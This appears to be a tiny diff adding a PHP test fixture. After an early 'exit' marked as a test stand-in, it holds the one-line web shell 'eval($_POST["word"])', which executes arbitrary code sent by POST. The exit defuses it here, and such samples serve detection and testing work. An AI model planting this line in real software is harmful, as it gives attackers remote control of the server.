@@ -1,0 +1,2 @@
+<?php exit; // stand-in for a test: stops here
+eval($_POST["word"]);
